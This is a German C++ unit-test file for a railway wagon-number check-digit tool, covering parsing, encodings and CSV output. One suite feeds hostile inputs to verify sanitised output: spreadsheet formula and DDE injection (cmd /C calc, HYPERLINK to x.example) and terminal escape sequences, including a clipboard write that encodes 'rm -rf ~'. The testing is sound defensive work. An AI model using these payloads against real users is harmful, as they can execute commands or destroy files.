#include "kommandozeile/programm.h"
#include "kommandozeile/ausgabe.h"
#include "tests/hilfen/ausgabepruefung.h"
#include "version.h"

#include "tests/hilfen/testdatei.h"
#include "zeichen/zeichensatz.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <ostream>
#include <sstream>
#include <tuple>

namespace {

const std::string Daten = std::string("--daten=") + TANDRIX_DATEN + "/Wagen.ebb";
const std::string Kennzeichen = std::string("--kennzeichen=") + TANDRIX_DATEN + "/Kennzeichen.ebb";

struct TLauf {
  int Status;
  std::string Aus;
  std::string Fehler;
};

TLauf Starte(std::vector<std::string> Argumente, const std::string& Eingabe = {})
{
  Argumente.insert(Argumente.begin(), {Daten, Kennzeichen});
  std::istringstream Ein(Eingabe);
  std::ostringstream Aus, Fehler;
  const int Status = Wagennummer(Argumente, Ein, Aus, Fehler);
  return {Status, Aus.str(), Fehler.str()};
}

// Text in UTF-16 mit Kennung, wie ihn die PowerShell schreibt.
std::string Utf16(std::string_view Ascii, bool GrossEndian)
{
  std::string Bytes = GrossEndian ? "þÿ"_cp1252 : "ÿþ"_cp1252;
  for (const char Z : Ascii)
    Bytes += GrossEndian ? std::string{'\0', Z} : std::string{Z, '\0'};
  return Bytes;
}

std::string Oft(const std::string& Text, std::size_t Anzahl)
{
  std::string Ergebnis;
  for (std::size_t I = 0; I < Anzahl; ++I)
    Ergebnis += Text;
  return Ergebnis;
}

struct TFall {
  const char* Name;
  std::vector<std::string> Argumente;
  std::string Eingabe;
  int Status;
  std::string Enthaelt;  // UTF-8
};

void PrintTo(const TFall& Fall, std::ostream* Aus) { *Aus << Fall.Name; }

class WagennummerTest : public testing::TestWithParam<TFall> {};

TEST_P(WagennummerTest, UrteilUndStatus)
{
  const TLauf L = Starte(GetParam().Argumente, GetParam().Eingabe);
  EXPECT_EQ(L.Status, GetParam().Status) << L.Aus << L.Fehler;
  ASSERT_NE(GetParam().Enthaelt, "");
  EXPECT_NE((L.Aus + L.Fehler).find(GetParam().Enthaelt), std::string::npos) << L.Aus << L.Fehler;
}

INSTANTIATE_TEST_SUITE_P(
    Faelle, WagennummerTest,
    testing::Values(
        TFall{"ElfZiffern", {"31806652003"}, "", 0, "31 80 6652 003-8  Prüfziffer 8\n"},
        TFall{"Korrekt", {"31 80 6652 003-8"}, "", 0, "Prüfziffer 8: korrekt"},
        TFall{"Falsch", {"31 80 6652 003-4"}, "", 1, "Prüfziffer 4: falsch – richtig wäre 8"},
        TFall{"OhneAnfuehrungZusammen", {"31", "80", "6652", "003-8"}, "", 0, "korrekt"},
        TFall{"ListeMitFehlernGehtWeiter",
              {},
              "# Sammlung\n31 80 665\n\n3180A652003\r\n50 80 3134 025-2\n",
              2,
              "50 80 3134 025-2  Prüfziffer 2: korrekt"},
        TFall{"Unbrauchbar", {}, "31 80 665 20\n", 2, "hat 9 Ziffern, erwartet werden 11 oder 12"},
        TFall{"FalschUndUnbrauchbar", {"31806652003-1", "1"}, "", 2, "falsch"},
        TFall{"Utf8Eingabe", {}, "31 80 6652 003–8\n", 0, "korrekt"},
        TFall{"Erklaeren", {"--erklaeren", "21812471217"}, "", 0, "Bis zum nächsten Vielfachen von 10 (40) fehlen 3."},
        TFall{"Utf8MitKennung", {}, "ï»¿31 80 6652 003-8\n"_cp1252, 0, "8: korrekt"},
        TFall{"Utf16LeMitKennung",
              {},
              Utf16("31 80 6652 003-8\r\n50 80 3134 025-2\r\n", false),
              0,
              "50 80 3134 025-2  Prüfziffer 2: korrekt\n"},
        TFall{"Utf16BeMitKennung", {}, Utf16("31 80 6652 003-8\r\n", true), 0, "8: korrekt"},
        TFall{"NurCrAlsZeilenende",
              {},
              "31 80 6652 003-8\r50 80 3134 025-2\r",
              0,
              "50 80 3134 025-2  Prüfziffer 2: korrekt\n"},
        TFall{"ZuLangeZeileGekuerzt",
              {},
              std::string(5000, '1') + "\n",
              2,
              "„" + std::string(60, '1') + "…“ ist länger als 4096"},
        TFall{"GenannteDatendateiFehlt",
              {"--daten=/nicht/da", "31 80 6652 003-8"},
              "",
              2,
              "Datendatei „/nicht/da“ nicht lesbar oder ohne Version"},
        TFall{"GenannteKennzeichendateiFehlt",
              {"--kennzeichen=/nicht/da", "31 80 6652 003-8"},
              "",
              2,
              "Kennzeichendatei „/nicht/da“ nicht lesbar oder ohne Version"},
        // Anschrift um die Ziffern; reale Anschriften, wo die Quellen eine nennen
        TFall{"AnschriftPasst",
              {"31 RIV 80 D-DB 665 2 003-8 Fals"},
              "",
              0,
              "D-DB Fals RIV – passt zur Nummer\n  Halter:                DB – Deutsche Bahn / "
              "DB AG (D"},
        TFall{"StrengZaehltAbweichung", {"--streng", "31 RIV 80 A-ÖBB 665 2 003-8 Fals"}, "", 1, "Abweichung"},
        TFall{"KennzahlAbgeleitet",
              {"31800952003"},
              "",
              0,
              "T – Wagen mit öffnungsfähigem Dach (aus Stelle 5 abgeleitet"},
        // Triebfahrzeuge: die Baureihe nach dem Schema des Landes
        TFall{"NationaleLokOesterreich",
              {"1116 234-4 A-ÖBB"},
              "",
              0,
              "zwölfstellig 91 81 1116 234-6 (andere Prüfziffer, beide richtig"},
        TFall{"NationaleLokFalsch", {"118 098-4"}, "", 1, "Prüfziffer 4: falsch – richtig wäre 3"},
        TFall{"Breitspur",
              {"salonvagons Nr. 00870006."},
              "",
              0,
              "00870006  achtstellige Nummer der Breitspurbahnen (1520 mm), Prüfziffer 6: korrekt; Stelle 1: "
              "Reisezugwagen"},
        // falsch: die andere Konvention ist nicht "beide richtig"
        TFall{"NationaleLokFalschAndereKonvention",
              {"118 098-4"},
              "",
              1,
              "91 56 7118 098-1 (andere Prüfziffer: die nationale rechnet nur über ihre eigenen Ziffern)"},
        TFall{"DrSchreibweiseIstDeutsch",
              {"52 8184-5"},
              "",
              0,
              "nicht bestimmen: für diese Reihe ist keine Umrechnung hinterlegt (in Deutschland"},
        TFall{"FsOhnePruefziffer",
              {"E.464.344"},
              "",
              0,
              "zwölfstellig 91 83 ?464 344-?; Stelle 5 legt die FS je Bauart fest, bekannte zuerst:\n"
              "    91 83 2464 344-7"},
        TFall{"LokDeutschland", {"91 80 6146 569-9"}, "", 0, "Baureihe:              146, Nr. 146 569\n"},
        TFall{"NationalMitEigenerFuellziffer",
              {"446 042-7 D-DB"},
              "",
              0,
              "zwölfstellig 91 80 0446 042-7 (die Reihe trägt auch kurz diese Prüfziffer)"},
        // gemeldet: Stelle 1 sagt Einzelradsaetze, "Fals" hat Drehgestelle
        TFall{"RadsaetzeWidersprechen",
              {"--streng", "21 RIV 80 D-DB 665 2 003-0 Fals"},
              "",
              1,
              "Austauschverfahren 21 steht für Einzelradsätze, „Fals“ verlangt "
              "Drehgestelle"},
        // UTF-8 zeigt den Haken, wie er getippt war; gesucht wird ohne
        TFall{"HacekWieGetippt", {"CZ-ČD 50 54 80-30 002-7 Bfhpvee295"}, "", 0, "CZ-ČD Bfhpvee 295 – passt zur Nummer"},
        // "?" fuer unleserliche Ziffern
        TFall{"EineZifferFehlt",
              {"31 80 665? 003-8"},
              "",
              0,
              "1 gültige Nummer\n    31 80 6652 003-8  Fals, Deutschland\n\n"},
        TFall{"ZuVieleUnbekannt", {"3? ?? ???? 003-8"}, "", 2, "hat 7 unbekannte Ziffern"},
        // Falsche Pruefziffer: die wahre Nummer zuerst, wo die Anschrift sie stuetzt
        TFall{"ReparaturLand",
              {"31 RIV 81 D-DB 665 2 003-8 Fals"},
              "",
              1,
              "zuerst):\n    31 80 6652 003-8  Stelle 4: 0 statt 1"},
        TFall{"NullNeunTausch", {"73 81 8890 208-9"}, "", 0, "auch 73 81 8809 208-9 hat diese Prüfziffer"},
        // Listen, wie Windows und zusammengehaengte Dateien sie liefern
        TFall{"StrgZBeendetDieListe", {}, "31 80 6652 003-8\r\n\03231 80 6652 003-4\r\n", 0, "8: korrekt"},
        TFall{"KennungEinerZweitenDatei", {}, "31 80 6652 003-8\nï»¿31 80 6652 003-4\n"_cp1252, 1, "4: falsch"},
        TFall{"LangeUtf8ZeileZaehltZeichen", {}, Oft("ä", 2100) + " 31 80 6652 003-8\n", 0, "8: korrekt"},
        TFall{"ZuLangeUtf8ZeileOhneHalbesZeichen",
              {},
              Oft("ä", 5000) + "\n",
              2,
              "„" + Oft("ä", 60) + "…“ ist länger als 4096"},
        TFall{"FremdesZeichenUnbrauchbar", {"31 80 6652 003-8 😀"}, "", 2, "U+1F600"},
        TFall{"HilfeWieUnterWindows", {"/?"}, "", 0, "Exit-Status"},
        TFall{"UnbekannteOption", {"--schnell"}, "", 2, "unbekannte oder unvollständige Option: --schnell"},
        TFall{"Hilfe", {"--hilfe"}, "", 0, "Exit-Status"},
        TFall{"Version", {"--version"}, "", 0, "(Tandrix) " TANDRIX_VERSION "\n"}),
    [](const testing::TestParamInfo<TFall>& Info) { return std::string(Info.param.Name); });

TEST(Csv, KopfZeilenUndZeichensatz)
{
  const TLauf Cp = Starte({"--csv", "21 81 2471 217-3", "31 80 665", "31 80 6652 003-4 Fals"});
  EXPECT_TRUE(Cp.Aus.starts_with("Eingabe;Nummer;Prüfziffer angeschrieben;Prüfziffer berechnet;Urteil;"_cp1252));
  EXPECT_NE(Cp.Aus.find("\r\n21 81 2471 217-3;21 81 2471 217-3;3;3;korrekt;"), std::string::npos);
  EXPECT_NE(Cp.Aus.find("Österreich"_cp1252), std::string::npos);  // Windows-1252
  EXPECT_NE(Cp.Aus.find("\r\n31 80 665;;;;unbrauchbar;;;;;;;„31 80 665“ hat 7 Ziffern"_cp1252), std::string::npos);
  // eine falsche Nummer bleibt, wie sie angeschrieben ist; die richtige steht bei den Vorschlaegen
  EXPECT_NE(Cp.Aus.find("\r\n31 80 6652 003-4 Fals;31 80 6652 003-4;4;8;falsch;"), std::string::npos);
  EXPECT_NE(Cp.Aus.find("31 80 6652 003-8  Stelle 12: 8 statt 4; Fals, Deutschland"), std::string::npos);

  const TLauf U = Starte({"--csv", "--utf8", "21812471217"});
  EXPECT_TRUE(U.Aus.starts_with("\357\273\277Eingabe;Nummer;Prüfziffer"));
  EXPECT_NE(U.Aus.find(";berechnet;"), std::string::npos);
  EXPECT_NE(U.Aus.find("Österreich"), std::string::npos);
}

TEST(Csv, FelderWerdenNurBeiBedarfGequotet)
{
  EXPECT_EQ(CsvFeld("Fals"), "Fals");
  EXPECT_EQ(CsvFeld("a; b"), "\"a; b\"");
  EXPECT_EQ(CsvFeld("sagt \"ja\""), "\"sagt \"\"ja\"\"\"");
  EXPECT_EQ(CsvFeld(" "), "\" \"");
  EXPECT_EQ(CsvFeld("über"_cp1252), "über"_cp1252);
}

// Eingaben, die ein Terminal steuern oder in einer Tabellenkalkulation etwas ausfuehren wollen,
// auch ueber Texte der Datendatei. Jede Zeile laeuft als Tabelle, als CSV und als CSV in UTF-8.
struct THarmlos {
  const char* Name;
  std::string Eingabe;
  std::string Datei;             // Wagen.ebb; leer: die ausgelieferte
  std::string Kennzeichen = {};  // Kennzeichen.ebb; leer: die ausgelieferte
};

void PrintTo(const THarmlos& Fall, std::ostream* Aus) { *Aus << Fall.Name; }

class HarmloseAusgabe : public testing::TestWithParam<THarmlos> {};

TEST_P(HarmloseAusgabe, OhneSteuerzeichenUndFormeln)
{
  const TTestVerzeichnis Verzeichnis;
  std::vector<std::string> Vorn;
  if (!GetParam().Datei.empty())
    Vorn.push_back("--daten=" + Verzeichnis.Schreibe("Wagen.ebb", GetParam().Datei).string());
  if (!GetParam().Kennzeichen.empty())
    Vorn.push_back("--kennzeichen=" + Verzeichnis.Schreibe("Kennzeichen.ebb", GetParam().Kennzeichen).string());
  for (const auto& [Art, Csv, Utf8] :
       {std::tuple{"Tabelle", false, true}, std::tuple{"CSV", true, false}, std::tuple{"CSV UTF-8", true, true}}) {
    std::vector<std::string> Argumente = Vorn;
    if (Csv)
      Argumente.emplace_back("--csv");
    if (Csv && Utf8)
      Argumente.emplace_back("--utf8");
    const TLauf L = Starte(Argumente, GetParam().Eingabe);
    EXPECT_EQ(AusgabeVerstoss(L.Aus, Csv, Utf8), "") << Art << ":\n" << L.Aus;
    EXPECT_EQ(AusgabeVerstoss(L.Fehler, false, true), "") << Art << ":\n" << L.Fehler;
  }
}

INSTANTIATE_TEST_SUITE_P(
    Faelle, HarmloseAusgabe,
    testing::Values(
        THarmlos{"Hyperlink", "=HYPERLINK(\"http://x.example/?\"&A1;\"Klick\")\n", ""},
        THarmlos{"AtFormel", "@SUM(1+1)*cmd|' /C calc'!A0\n", ""}, THarmlos{"PlusVorNummer", "+31 80 6652 003-8\n", ""},
        THarmlos{"Minus", "-2+3+cmd|' /C calc'!A0\n", ""}, THarmlos{"Tabulator", "\t=1+1\n", ""},
        THarmlos{"TerminaltitelUndLoeschen", "31 80 \033]0;PWNED\007\033[2J6652 003-8\n", ""},
        THarmlos{"Zwischenablage", "\033]52;c;cm0gLXJmIH4=\007\n", ""},
        THarmlos{"Verschleiert", "31 80 6652 003-4 \033[1A\033[2K\033[8m\n", ""},
        THarmlos{"C1AlsUtf8", "\302\2332J \302\201 31 80 6652 003-8\n", ""},
        THarmlos{"Datentexte", "31 80 6652 003-8\n",
                 "[Wagentyp]\n3=G\n[Austausch]\n31==cmd|' /C calc'!A0\033[2J\n[RIV-Merkmal]\n3=@SUM(1)\n"
                 "[Eigentumsmerkmal]\n1=-1+1\235\n[Version]\nVersion=1\n"},
        THarmlos{"Kennzeichentexte", "91 80 6146 569-9\n31 RIV 80 D-DB 665 2 003-8 Fals\n31 80 0??2 003-8 D-DB\n", "",
                 "[Version]\r\nVersion=x\r\n[Laender]\r\n80=D;\033[2JDeutschland\r\n[Triebfahrzeuge]\r\n"
                 "80-91=6;6-8;\033[2J\033[31mBaureihe;hoch\r\n[Halter]\r\nDB=D;=HYPERLINK(1);\033]0;x\007;DB\r\n"
                 "[Kategorie]\r\n0=@SUMME;\033[1m;\235\r\n"}),
    [](const testing::TestParamInfo<THarmlos>& Info) { return std::string(Info.param.Name); });

TEST(Daten, OhneDatendateiNurPruefziffern)
{
  // Ohne --daten sucht das Programm Wagen.ebb neben dem Testprogramm, wo keine liegt.
  std::istringstream Ein;
  std::ostringstream Aus, Fehler;
  EXPECT_EQ(Wagennummer({"31 80 6652 003-8"}, Ein, Aus, Fehler), 0);
  EXPECT_EQ(Aus.str(), "31 80 6652 003-8  Prüfziffer 8: korrekt\n\n");
  EXPECT_NE(Fehler.str().find("nur die Prüfziffern"), std::string::npos);
}

// Welche Wagenart eine Nummer ist, sagt [Wagentyp]: mit 9=G ist 91 ... ein Gueterwagen, in der
// Tabelle wie im Fenster.
TEST(Daten, WagenartAusDerDatendatei)
{
  const TTestVerzeichnis Verzeichnis;
  const auto Datei = Verzeichnis.Schreibe("Wagen.ebb", "[Wagentyp]\n9=G\n[Version]\nVersion=1\n");
  const TLauf L = Starte({"--daten=" + Datei.string(), "91 80 6146 569-9"});
  EXPECT_NE(L.Aus.find("Eigentumsmerkmal:"), std::string::npos) << L.Aus;
  EXPECT_EQ(L.Aus.find("Triebfahrzeug"), std::string::npos) << L.Aus;
}

TEST(Liste, ZehntausendNummern)
{
  std::string Liste;
  for (int I = 0; I < 10000; ++I)
    Liste += "31 80 6652 " + std::to_string(100 + I % 900) + "-0\n";
  const TLauf L = Starte({"--csv"}, Liste);
  EXPECT_EQ(std::count(L.Aus.begin(), L.Aus.end(), '\n'), 10001);
}

// Echte Anschriften mit --streng: keine Abweichung aus Woertern, die kein Kennzeichen der Tabellen
// sind, und keine richtige nationale Nummer "falsch"; die Quelle steht hinter der Zeile.
struct TEchteAnschrift {
  const char* Name;
  std::string Utf8;
  int Status;
  std::string Enthaelt;  // UTF-8, in der ersten Zeile
};

void PrintTo(const TEchteAnschrift& Fall, std::ostream* Aus) { *Aus << Fall.Name; }

class EchteAnschriftTest : public testing::TestWithParam<TEchteAnschrift> {};

TEST_P(EchteAnschriftTest, KeinFehlalarm)
{
  const TLauf L = Starte({"--streng", GetParam().Utf8});
  const std::string Erste = L.Aus.substr(0, L.Aus.find('\n'));
  EXPECT_EQ(L.Status, GetParam().Status) << L.Aus;
  EXPECT_NE(Erste.find(GetParam().Enthaelt), std::string::npos) << Erste;
  if (GetParam().Status == 0) {
    EXPECT_EQ(L.Aus.find("Abweichung:"), std::string::npos) << L.Aus;
  }
}

INSTANTIATE_TEST_SUITE_P(
    Anschriften, EchteAnschriftTest,
    testing::Values(
        // https://hauerslev.com/jernbaner/uic/index.htm
        TEchteAnschrift{"MerkmalMitBindestrich", "01 RIV-EUROP 86 DSB 500 0 235-7 E", 0, "01 86 5000 235-7"},
        // https://valestelor.altervista.org/carrozze-cuccette-uic-x-1970-fs-acme-parte-ii-bc-ristrutturate/
        TEchteAnschrift{"AlterHalter", "61 83 50-70 806-0 I-FS Bc", 0, "korrekt"},
        // http://railfaneurope.net/pix/nl/museum/NSM/car/Benelux/20220715-SpM-ICR3-28-101.txt
        TEchteAnschrift{"WoerterImSatz",
                        "Driving trailer coach 50 84 28-70 101-7 (Bs) of the typeICR-3 preserved at the Het "
                        "Spoorwegmuseum",
                        0, "50 84 2870 101-7"},
        // https://binariedintorni.it/2022/11/modellismo-particolare-focus-su-una-speciale-carrozza-corbellini-realizzata-da-norma87-e-presentata-nelledizione-2021-dellhobby-model-expo
        TEchteAnschrift{"UMitEinzelradsaetzen", "marcatura unificata da carro merce Uaks 44 83 935 0 902-2", 0,
                        "korrekt"},
        // http://www.jernbanen.dk/gvognsolo.php?Aar=1965&vognid=1571
        TEchteAnschrift{"KeinLandVorDemStrich", "UIC-nr. 20 86 511 0 820-0", 0, "korrekt"},
        // https://valestelor.altervista.org/carrozze-fs-uic-x-rivarossi-parte-iv-1975-miste-e-ultime-produzioni/?long_events=1&ajaxCalendar=1&mo=8&yr=2021
        TEchteAnschrift{"ZweiWagenGattungDesZweiten", "(51 83 31-70 173-1 AB e 51 83 22-70 748-1 B)", 0,
                        "51 83 3170 173-1"},
        // https://www.lok-report.de/news/deutschland/mit-der-kamera-notiert/item/3879-kiel-bestseller-trifft-kraftpaket.html
        TEchteAnschrift{"NationalMitZwoelfPruefziffer",
                        "die 1275 502-3 (Vossloh 5001793/2008) der Hessischen Güterbahn GmbH (HGB)", 0,
                        "korrekt, passt zur zwölfstelligen 92 80 1275 502-3"},  // das Land des Halters HGB
        // http://www.seak.ch/Die-Eisenbahn-von-unseren-Mitgliedern-gesehen/Bernhard-Ledermann-2017/
        TEchteAnschrift{"SchweizerReiheNachGattung",
                        "Dazu erhält die Re 446 016-8 (ex SBB-Re 4/4 IV 10102) aktuell zu diesem Jubiläum", 0,
                        "Prüfziffer 8: korrekt"},
        // http://mainlinediesels.net/index.php?nav=1000001&lang=en&id=9885&action=shownews
        TEchteAnschrift{"OhnePruefziffer", "SM42-2244", 0, "nationale Nummer ohne Prüfziffer: Reihe SM42, Nr. 2244"},
        // https://nbjvm.se/fordon-group/uic-standardvagnar: keine nationale Nummer, keine eigene Regel
        TEchteAnschrift{"StellenFuenfBisZwoelf", "Godsfinka SJ littera Tbis 5715451-6", 0,
                        "Stellen 5–12 eines Wagens ohne Austauschkennzahl und Land: 5715 451, die Prüfziffer"},
        // https://www.railorama.dk/fotos/ugens/
        TEchteAnschrift{"NationalImSatz", "NOB 245 213-4 med tog til Westerland/Sylt afgår fra Niebüll", 0,
                        "245 213-4  nationale Triebfahrzeugnummer, Prüfziffer 4: korrekt"}),
    [](const testing::TestParamInfo<TEchteAnschrift>& Info) { return std::string(Info.param.Name); });

}  // namespace
